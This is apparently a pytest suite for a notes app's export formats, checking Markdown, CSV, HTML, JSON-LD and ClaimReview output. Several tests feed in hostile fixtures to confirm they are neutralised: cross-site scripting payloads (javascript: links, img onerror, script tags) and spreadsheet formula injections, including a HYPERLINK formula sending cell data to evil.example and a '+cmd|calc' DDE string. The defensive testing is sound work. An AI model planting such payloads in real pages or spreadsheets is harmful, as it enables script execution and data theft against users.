"""Every export format on the sample with notes, with no notes, and with awkward notes."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import shutil
from pathlib import Path

import pytest

from app.core.annotations import annotation_for_span
from app.core.claims import find_claims
from app.core.export import build_export_model, export_text, save_text_export
from app.core.export.claimreview import RATING
from app.core.export_mark import MARKDOWN_MARK
from app.core.loaders import load_article
from app.core.notes_format import from_jsonld
from tests.conftest import SAMPLE

AWKWARD = 'Line one, with "quotes" and *emphasis*.\nLine two; a <tag> & [link](x).'


@pytest.fixture
def article_path(tmp_path: Path) -> Path:
    target = tmp_path / "sample.md"
    shutil.copy(SAMPLE, target)
    return target


def model_with_notes(article_path: Path):
    article = load_article(article_path)
    claims = find_claims(article)

    def on(index: int, **fields):
        c = claims[index]
        return annotation_for_span(article.text, c.start, c.end, **fields)

    annotations = [
        on(17, label="supported", note=AWKWARD,
           sources=("https://pubmed.ncbi.nlm.nih.gov/33918360/", "https://doi.org/10.1/x")),
        on(19, label="uncertain", note="Hedged."),
        on(46, label="advertising"),
        on(5, note="Only a note, no label."),
    ]
    orphan = annotation_for_span("Gone sentence here, never in the article.", 0, 41,
                                 label="uncertain", note="An orphan")
    return build_export_model(article, [*annotations, orphan], len(claims), author="Ada Tester")


def test_markdown(article_path: Path) -> None:
    text = export_text(model_with_notes(article_path), "md")
    # First the mark the library knows its exports by: a comment, not shown.
    assert text.startswith(f"{MARKDOWN_MARK}\n# Notes: Magnesium and Your Nerves")
    assert "**Summary:** 1 supported · 2 uncertain · 1 advertising" in text
    assert "- [PMID 33918360](<https://pubmed.ncbi.nlm.nih.gov/33918360/>)" in text
    assert "- [DOI 10.1/x](<https://doi.org/10.1/x>)" in text
    # The note's Markdown is kept as written, its raw HTML shown as text.
    assert AWKWARD.replace("<tag>", "&lt;tag>") in text
    assert "## Lost their place" in text and "> Gone sentence here" in text
    assert "<span" not in text and "<div" not in text  # no stray HTML of ours
    order = [text.index(q) for q in ("A 2021 review", "Research has shown", "Order now")]
    assert order == sorted(order)


HOSTILE_NOTE = ("[x](javascript:alert(1)) [y](<data:text/html,hi>) ![i](http://127.0.0.1:9/p.png)"
                " <img src=x onerror=alert(2)> <script>alert(3)</script> <https://example.org/ok>"
                "\n\n[ref]: javascript:alert(4)\n\nSee [the trial](https://doi.org/10.1/t).")
HOSTILE_SOURCES = ("javascript:alert(12)", "data:text/html,hi", " https://x.org/a",
                   "https://doi.org/10.1/x")


def hostile_model(article_path: Path):
    article = load_article(article_path)
    claims = find_claims(article)
    c = claims[3]
    notes = [annotation_for_span(article.text, c.start, c.end, label="advertising",
                                 note=HOSTILE_NOTE, sources=HOSTILE_SOURCES),
             annotation_for_span(article.text, claims[4].start, claims[4].end,
                                 note='=HYPERLINK("http://evil.example/?x="&A1,"click")'),
             annotation_for_span(article.text, claims[5].start, claims[5].end,
                                 note="+cmd|calc!A0", label="uncertain")]
    return build_export_model(article, notes, len(claims))


def test_html_export_of_imported_notes_runs_and_fetches_nothing(article_path: Path) -> None:
    import re

    text = export_text(hostile_model(article_path), "html")
    assert "<script" not in text and "onerror" not in text and "<img" not in text
    hrefs = re.findall(r'href="([^"]*)"', text)
    # Web links, and our markers' links between a note and its place in the text.
    assert hrefs and all(h.startswith("https://") or re.fullmatch(r"#(mark|note)-\d+", h)
                         for h in hrefs), hrefs
    assert "https://doi.org/10.1/t" in hrefs and "https://doi.org/10.1/x" in hrefs
    assert "javascript:alert(12) (not a recognised source)" in text
    assert re.search(r"\bsrc=", text) is None


def test_markdown_export_of_imported_notes_runs_and_fetches_nothing(article_path: Path) -> None:
    import markdown

    text = export_text(hostile_model(article_path), "md")
    rendered = markdown.markdown(text)
    assert "<script" not in rendered and "<img" not in rendered
    assert re.search(r"<[^>]*onerror", rendered) is None  # shown as text, not a tag
    assert "javascript:" not in " ".join(re.findall(r'href="([^"]*)"', rendered))
    assert "data:" not in " ".join(re.findall(r'href="([^"]*)"', rendered))
    assert '<a href="https://doi.org/10.1/t">the trial</a>' in rendered
    assert '<a href="https://example.org/ok">' in rendered  # an autolink stays a link
    assert "- javascript:alert(12) (not a recognised source)" in text  # plain text, no link


def test_csv_cells_never_start_a_formula(article_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(export_text(hostile_model(article_path), "csv"),
                                           newline="")))
    notes = [r["note"] for r in rows]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in notes
    assert "'+cmd|calc!A0" in notes
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_csv_parses_back(article_path: Path) -> None:
    model = model_with_notes(article_path)
    text = export_text(model, "csv")
    assert "\r\n" in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 5
    first = next(r for r in rows if r["label"] == "supported")
    assert first["label"] == "supported" and first["note"] == AWKWARD
    assert first["sources"].split() == ["https://pubmed.ncbi.nlm.nih.gov/33918360/",
                                        "https://doi.org/10.1/x"]
    assert rows[-1]["status"] == "orphaned" and rows[-1]["start"] == ""
    article = load_article(article_path)
    assert article.text[int(first["start"]):int(first["end"])] == first["quote"]


def test_csv_file_has_a_bom_for_spreadsheets(article_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "notes.csv"
    save_text_export(model_with_notes(article_path), "csv", str(out))
    assert out.read_bytes().startswith(b"\xef\xbb\xbfid,label,quote")


def test_a_failed_export_write_leaves_the_previous_export_whole(
        article_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "notes.md"
    out.write_text("last week's export\n")

    def disk_full(fd: int, data: object) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "write", disk_full)
    with pytest.raises(OSError):
        save_text_export(model_with_notes(article_path), "md", str(out))
    monkeypatch.undo()
    assert out.read_text() == "last week's export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.md", "sample.md"]


def test_jsonld_round_trips(article_path: Path) -> None:
    model = model_with_notes(article_path)
    data = json.loads(export_text(model, "jsonld"))
    assert data["first"]["items"][0]["target"]["source"] == article_path.as_uri()
    back = from_jsonld(data)
    assert back.annotations == [item.annotation for item in model.items]


def test_claimreview_fields_and_types(article_path: Path) -> None:
    reviews = json.loads(export_text(model_with_notes(article_path), "claimreview"))
    assert len(reviews) == 3  # labelled ones in the text (the orphan is left out)
    for review in reviews:
        assert review["@type"] == "ClaimReview"
        assert isinstance(review["claimReviewed"], str) and review["claimReviewed"]
        rating = review["reviewRating"]
        assert rating["alternateName"] in RATING
        assert rating["ratingValue"] == RATING[rating["alternateName"]]
        assert (rating["bestRating"], rating["worstRating"]) == (5, 1)
        # The note explains the rating; a rating without a note has no explanation
        # (tester T11: an empty "ratingExplanation" was written).
        assert isinstance(rating["ratingExplanation"], str) if rating["alternateName"] != \
            "advertising" else "ratingExplanation" not in rating
        assert review["itemReviewed"]["@type"] == "Claim"
        assert review["itemReviewed"]["appearance"]["url"] == article_path.as_uri()
        assert review["author"] == {"@type": "Person", "name": "Ada Tester"}
        assert len(review["datePublished"]) == 10 and review["url"].startswith("file://")
    assert reviews[0]["reviewRating"]["ratingExplanation"] == AWKWARD
    # The sources are the works the review cites (tester T8: ClaimReview had none).
    assert reviews[0]["citation"] == [
        {"@type": "CreativeWork", "url": "https://pubmed.ncbi.nlm.nih.gov/33918360/"},
        {"@type": "CreativeWork", "url": "https://doi.org/10.1/x"}]
    assert all("citation" not in review for review in reviews[1:])


def test_claimreview_of_an_undated_imported_note_has_a_date(article_path: Path) -> None:
    from dataclasses import replace

    from app.core.export.claimreview import to_claimreviews

    model = model_with_notes(article_path)
    undated = replace(model, items=[replace(item, annotation=replace(
        item.annotation, created="", modified="")) for item in model.items])
    for review in to_claimreviews(undated):
        assert review["datePublished"] == model.exported[:10]


def test_html_has_highlights_notes_and_nothing_active(article_path: Path) -> None:
    text = export_text(model_with_notes(article_path), "html")
    assert 'class="supported"' in text and 'class="advertising"' in text
    assert "Only a note, no label." in text
    assert "<em>emphasis</em>" in text  # the note's Markdown rendered
    assert "&lt;tag&gt;" in text or "<tag>" not in text
    for active in ("<script", "<link", "<iframe", "javascript:", "http://", "<img"):
        assert active not in text.lower()
    assert "Notes that lost their place" in text


@pytest.mark.parametrize("fmt", ["md", "csv", "html", "jsonld", "claimreview"])
def test_no_notes_gives_valid_empty_output(article_path: Path, fmt: str) -> None:
    article = load_article(article_path)
    model = build_export_model(article, [], len(find_claims(article)), author="A")
    text = export_text(model, fmt)
    if fmt == "csv":
        assert list(csv.reader(io.StringIO(text))) == [
            ["id", "label", "quote", "note", "sources", "start", "end", "status", "now reads",
             "created", "modified"]]
    elif fmt == "claimreview":
        assert json.loads(text) == []
    elif fmt == "jsonld":
        assert json.loads(text)["first"]["items"] == []
    elif fmt == "md":
        assert "No notes yet." in text
    else:
        assert "<h1>" in text


@pytest.mark.parametrize("note", ["- see the trial", '- WEBSERVICE("http://x.example/")', "-2+3",
                                  "+ plain words", "@SUM(1,2)", "=1+1", "\t=1+1", "\r=1+1"])
def test_a_csv_cell_a_spreadsheet_may_evaluate_keeps_its_guard(note: str) -> None:
    """Excel reads "- see the trial" as the formula "=- see the trial" (#NAME?), and
    "- WEBSERVICE(…)" would call the function: a dash and a space are not safe."""
    from app.core.export.csv_export import inert

    assert inert(note) == "'" + note


@pytest.mark.parametrize("note", ["", "see the trial", "'already quoted", "n = 200 – small",
                                  " - indented", "«=» in quotes"])
def test_other_csv_cells_are_left_as_written(note: str) -> None:
    from app.core.export.csv_export import inert

    assert inert(note) == note


def test_markdown_links_a_doi_with_angle_brackets() -> None:
    """Tester T9: "(<https://doi.org/10.1002/(SICI)…:8<693::AID-ASI4>3.0.CO;2-0>)" is
    no link in CommonMark; the brackets are percent-encoded in the destination."""
    from app.core.export.markdown_export import _destination

    url = "https://doi.org/10.1002/(SICI)1097-4571(199806)49:8<693::AID-ASI4>3.0.CO;2-0"
    assert _destination(url) == ("https://doi.org/10.1002/(SICI)1097-4571(199806)49:8"
                                 "%3C693::AID-ASI4%3E3.0.CO;2-0")
